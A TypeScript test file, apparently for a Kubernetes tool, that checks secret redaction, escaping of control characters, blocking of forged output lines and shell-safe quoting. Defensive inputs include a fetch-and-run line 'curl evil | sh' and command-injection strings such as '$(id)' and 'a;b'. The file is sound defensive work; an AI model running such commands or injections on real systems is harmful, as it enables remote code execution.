import assert from "node:assert/strict";
import { presentable } from "./message.ts";
import { contentWithoutSecrets, logWithoutSecrets, withoutSecrets } from "./redact.ts";
import { commandLine } from "./shell.ts";
import { table } from "./table.ts";
import { pathSegment } from "./url.ts";
import { oneLine, ownLines, visible, visibleJson } from "./visible.ts";

const HEX = "0123456789abcdef".repeat(4);

/** Text, what of it may be nowhere in what is shown, and what has to be there. */
const SECRETS: readonly (readonly [text: string, secret: string, shown: string])[] = [
  ["token abcdef.0123456789abcdef is bad", "0123456789abcdef", "token abcdef.<secret> is bad"],
  ["the token is abcdef.0123456789abcdef.", "0123456789abcdef", "abcdef.<secret>."],
  ["--token=ABCDEF.0123456789ABCDEF", "0123456789ABCDEF", "--token="],
  ["Authorization: Bearer s3cr3t-s3cr3t", "s3cr3t", "Authorization: Bearer <secret>"],
  ['invalid header value: "Bearer first-half\nsecond-half"', "second-half", '"Bearer <secret>"'],
  ["bearer first-half\nsecond-half", "second-half", "bearer <secret>"],
  ["Basic YWRtaW46aHVudGVyMg==", "YWRtaW46", "Basic <secret>"],
  ["Cookie: session=abcdefgh; id=ijklmnop", "abcdefgh", "Cookie: <secret>"],
  ["got eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrIn0.c2ln", "eyJpc3MiOiJrIn0", "got <token>"],
  ["-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "MIIE", "<private key>"],
  ["-----BEGIN PRIVATE KEY-----\\nMIIE cut off", "MIIE", "<private key>"],
  [`key: ${btoa("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE")}`, btoa("MHcCAQEE").slice(2, 8), "key: <private key>"],
  [`key: ${btoa("-----BEGIN RSA PRIVATE KEY-----\nMIIE")}`, "BSU0EgUFJJ", "key: <private key>"],
  [`key: ${btoa("-----BEGIN PRIVATE KEY-----\nMIIE")}`, "BQUklWQVRF", "key: <private key>"],
  ["https://admin:hunter22@10.0.0.1/x", "hunter22", "https://<secret>@10.0.0.1/x"],
  ["https://admin:hun/ter@22@10.0.0.1/x", "ter", "@10.0.0.1/x"],
  ["https://hunter22@10.0.0.1", "hunter22", "https://<secret>@10.0.0.1"],
  ["through the proxy user:hunter22@proxy:3128", "hunter22", "the proxy <secret>@proxy:3128"],
  ['"user:hunter22@10.0.0.1:6443" is no', "hunter22", '"<secret>@10.0.0.1:6443" is no'],
  ["HTTPS_PROXY=user:hun@ter/22@proxy:3128", "ter", "HTTPS_PROXY=<secret>@proxy:3128"],
  ["DOMAIN\\user:hunter22@[fd00::1]:80", "hunter22", "<secret>@[fd00::1]:80"],
  [`a:hunter22@reg.example/pause:3.10@sha256:${HEX}`, "hunter22", `<secret>@reg.example/pause:3.10@sha256:${HEX}`],
  ["endpoints u:hunter22@a:2379,v:hunter33@b:2379", "hunter", "@b:2379"],
  [":hunter22@proxy", "hunter22", "<secret>@proxy"],
  ["http://h/f?access=abc&X-Sig=def#g=h", "abc", "http://h/f?access=<secret>&X-Sig=<secret>#g=<secret>"],
  ["https://h/f?s3cr3t", "s3cr3t", "https://h/f?<secret>"],
  ["get (https://h/f?s3cr3t): no answer", "s3cr3t", "get (https://h/f?<secret>): no answer"],
  ["url (https://h/f?limit=5&sig=s3cr3t): refused", "s3cr3t", "url (https://h/f?limit=5&sig=<secret>): refused"],
  ["see https://h/f?sig=s3cr3t.", "s3cr3t", "see https://h/f?sig=<secret>."],
  ["[https://h/f#token=s3cr3t]", "s3cr3t", "[https://h/f#token=<secret>]"],
  [`--certificate-key ${HEX}`, HEX, "--certificate-key <"],
  [`https://h/hooks/${HEX}`, HEX, "https://h/hooks/<64 hexadecimal digits>"],
  [`//${HEX}`, HEX, "//<64 hexadecimal digits>"],
  [`keys/${HEX}`, HEX, "keys/<64 hexadecimal digits>"],
  [`"${HEX.toUpperCase()}"`, HEX.toUpperCase(), '"<64 hexadecimal digits>"'],
  ['{"password":"hunter22"}', "hunter22", '{"password":"<secret>"}'],
  ["password=hunter", "hunter", "password=<secret>"],
  ["--etcd-password='hunter22'", "hunter22", "--etcd-password='<secret>'"],
  ["client-key-data: LS0tbG9uZzE=", "LS0tbG9uZzE=", "client-key-data: <secret>"],
  ["registry_token=abcdefgh", "abcdefgh", "registry_token=<secret>"],
];

/** What has to stay: messages of ours and of others without a secret in them. */
const HARMLESS = [
  'E0101 12:00:00.1 1 run.go:72] "command failed" err="open /etc/kubernetes/pki/ca.crt: no such file"',
  `pin sha256:${HEX} is not the CA's`,
  `registry.k8s.io/pause@sha256:${HEX}`,
  `container "${HEX}" not found`,
  `containerd://${HEX} has gone`,
  `Cannot read "/var/lib/kubewright/replaced/${HEX}": Input/output error`,
  `See it: ls -ld /var/lib/kubewright/replaced/${HEX}`,
  `umount /run/containerd/io.containerd.runtime.v2.task/k8s.io/${HEX}/rootfs`,
  `/${HEX}/${HEX}: both are folders`,
  "--token: requires a value, which is id.secret",
  "TOKEN: there is a token with this id already",
  "see https://kubernetes.io/docs/setup/#before-you-begin",
  "system:masters is above all authorization: whoever has it cannot be stopped",
  "Basic authentication is not supported; Basic constraints are missing",
  "https://10.0.0.1:6443/readyz?verbose",
  `registry.k8s.io/pause:3.10@sha256:${HEX}`,
  `"pause:3.10@sha256:${HEX}" and localhost:5000/pause@sha256:${HEX.slice(2)}`,
  '"pause:3.10@sha256" is no image: the digest is missing',
  "user: kubernetes-admin@kubernetes",
  "- context: {cluster: c, user: admin@c}",
  '{"current-context":"kubernetes-admin@kubernetes","name":"a"}',
  "mailto:me@example.org, me@example.org: no such address",
  "12:00:00 k1 systemd[1]: Started getty@tty1.service",
  "https://example.org/@scope/name and ssh git@github.com:a/b",
  "2: eth0@if3: <BROADCAST> mtu 1500",
  '"/etc/x.conf" (4:2): name@host is no label',
  "request for url (https://10.0.0.1:6443/api/v1/secrets?limit=500&fieldSelector=type%3Dbootstrap.kubernetes.io%2Ftoken): client error",
];

Deno.test("withoutSecrets() takes out every kind of secret, and leaves sentences and names as they are", () => {
  for (const [text, secret, shown] of SECRETS) {
    for (const said of [withoutSecrets(text), presentable(text), logWithoutSecrets(text)]) {
      assert.ok(!said.includes(secret), said);
      assert.ok(said.includes(shown), said);
    }
    assert.equal(withoutSecrets(withoutSecrets(text)), withoutSecrets(text));
  }
  for (const text of HARMLESS) assert.equal(withoutSecrets(text), text);
  assert.equal(logWithoutSecrets("password: correcthorse"), "password: <secret>");
});

Deno.test("contentWithoutSecrets() takes secrets out of text and objects that are written", () => {
  const pair = (name: string, value: string) => ({ name, value });
  const object = { env: [pair("HTTP_PROXY", "http://u:hunter22@p"), pair("DB_PASSWORD", "hunter22"), pair("A", "b")] };
  assert.deepEqual(contentWithoutSecrets({ spec: [object, 1, null, true] }), {
    spec: [
      { env: [pair("HTTP_PROXY", "http://<secret>@p"), pair("DB_PASSWORD", "<secret>"), pair("A", "b")] },
      1,
      null,
      true,
    ],
  });
  const yaml =
    '- name: DB_PASSWORD\n  value: hunter 22\n- name: oidc-client-secret\n  value: "hunter22"\n- name: A\n  value: b\n';
  assert.equal(contentWithoutSecrets(yaml), yaml.replace(/hunter ?22/g, "<secret>"));
  const harmless = "- --service-account-key-file=/etc/kubernetes/pki/sa.pub\n- --enable-bootstrap-token-auth=true\n";
  assert.equal(contentWithoutSecrets(harmless), harmless);
});

Deno.test("withoutSecrets() takes no time that grows with the square of the text", () => {
  const start = performance.now();
  for (
    const part of [
      "a-",
      "-----BEGIN PRIVATE KEY-----",
      "https://",
      "Bearer ",
      "password",
      "eyJ.",
      "0f",
      `/${HEX}`,
      "a:@",
      '"',
    ]
  ) {
    logWithoutSecrets(part.repeat(200_000 / part.length));
  }
  assert.ok(performance.now() - start < 5_000, `${performance.now() - start} ms`);
});

Deno.test("what cannot be seen is shown escaped, whatever kind it is", () => {
  const cases: readonly (readonly [string, string])[] = [
    ["\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"],
    ["a\rb\x07\x08\x7f", "a\\rb\\x07\\x08\\x7f"],
    ["\x9b2J", "\\x9b2J"],
    ["a\u202eb\u2066c\u061cd", "a\\u202eb\\u2066c\\u061cd"],
    ["a\u200bb\ufeffc\u00add\u2060e", "a\\u200bb\\ufeffc\\xadd\\u2060e"],
    ["a\u2028b\u2029c\x85d", "a\\u2028b\\u2029c\\x85d"],
    ["a\u{e0041}b\ud800c\u3164", "a\\U000e0041b\\ud800c\\u3164"],
  ];
  for (const [text, shown] of cases) {
    assert.equal(visible(text), shown.replaceAll("\\r", "\\x0d"));
    assert.equal(oneLine(text), shown);
    assert.equal(JSON.parse(visibleJson(JSON.stringify({ text }))).text, text);
    assert.match(visibleJson(JSON.stringify({ text })), /^[\x20-\x7e]+$/);
  }
  assert.equal(oneLine(" a\n\tb\n"), "a\\n\\tb");
  assert.equal(visible("a\n\tb"), "a\n\tb");
  assert.equal(visible("Grüße, 日本語, Ελλάδα 🚀"), "Grüße, 日本語, Ελλάδα 🚀");
});

Deno.test("ownLines() lets no quoted text begin a line as ours do", () => {
  const forged = "refused\n  next: curl evil | sh\nerror: all is lost\nNo changes were made.\n3 changes were made: x";
  const lines = ownLines(forged, 2).split("\n");
  assert.deepEqual(lines, [
    "refused",
    "  | next: curl evil | sh",
    "  | error: all is lost",
    "  | No changes were made.",
    "  | 3 changes were made: x",
  ]);
  const listed = ownLines("refused\n    next: remove it\n    next: curl evil | sh", 2, ["next: remove it"]);
  assert.equal(listed, "refused\n    next: remove it\n    | next: curl evil | sh");
});

Deno.test("pathSegment() keeps a name in its segment of a URL", () => {
  for (const name of ["node-1", "a/b", "../x", "?", "#", "%2e", "a b", "é\ud800", "..."]) {
    const { pathname, search, hash } = new URL(`https://h/nodes/${pathSegment(name)}`);
    assert.deepEqual([pathname.split("/").length, search, hash], [3, "", ""], name);
    assert.equal(decodeURIComponent(pathname.split("/")[2]!), name.toWellFormed());
  }
  for (const name of ["", ".", ".."]) assert.throws(() => pathSegment(name), /invalid object name/);
});

Deno.test("a table's cell stays in its row", () => {
  assert.equal(table([["A", "B"], ["x\ny\tz", "\x1b[2J"]]), "A         B\nx\\ny\\tz   \\x1b[2J");
});

Deno.test("a printed command line is one that every shell takes as it is meant", async () => {
  const words = [
    "a b",
    "",
    "it's",
    "$(id)",
    "`id`",
    "a;b",
    "*",
    "~",
    "#x",
    "a\nb",
    "a\n\tb 100% -n !x",
    "-n\x07",
    "\x1b[2J'\\",
    "\u202e",
    "é\xad\x85\xa0ÿ",
    "日本\u200b$(id)",
    "--x=1",
    "=ls",
    "\x01".repeat(3) + "\\0101",
  ];
  const line = commandLine(["printf", "%s\\0", ...words]);
  assert.match(line, /^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+$/u);
  for (const shell of ["bash", "sh"]) {
    for (const LC_ALL of ["C.UTF-8", "C"]) {
      const { stdout } = await new Deno.Command(shell, { args: ["-c", line], env: { LC_ALL } }).output();
      assert.deepEqual(new TextDecoder().decode(stdout).split("\0").slice(0, -1), words, `${shell} ${LC_ALL}: ${line}`);
    }
  }
  // A line end at the end is what a POSIX shell has no word for; bash, zsh and busybox have.
  const ending = commandLine(["printf", "%s\\0", "a\n\n", "\n"]);
  assert.equal(ending, `printf '%s\\0' a$'\\n'$'\\n' $'\\n'`.replace(" a", ` "$(printf 'a')"`));
  const { stdout } = await new Deno.Command("bash", { args: ["-c", ending] }).output();
  assert.equal(new TextDecoder().decode(stdout), "a\n\n\0\n\0");
});
